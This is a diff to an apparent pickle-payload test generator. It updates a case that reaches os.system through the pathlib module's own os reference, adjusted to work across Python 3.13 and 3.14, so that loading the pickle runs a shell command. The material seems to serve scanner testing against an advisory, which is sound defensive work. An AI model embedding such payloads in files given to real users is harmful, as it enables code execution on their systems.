@@ -39,6 +39,7 @@ import sys
 import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
+from importlib import import_module
 from pathlib import Path
 
 PICKLE_LOADS = "pickle.loads"
@@ -396,7 +397,12 @@ def importlib_vars_get(marker: str) -> bytes:
 
 
 def pathlib_dotted_os(marker: str) -> bytes:
-    system = stack_global("pathlib", "os.system")
+    # pathlib, as the advisory has it; 3.13 moved its import of os into a
+    # submodule, and 3.14 back.
+    host = next(
+        name for name in ("pathlib", "pathlib._local") if hasattr(import_module(name), "os")
+    )
+    system = stack_global(host, "os.system")
     return proto(4) + call(system, value(shell_command(marker))) + STOP
 
 
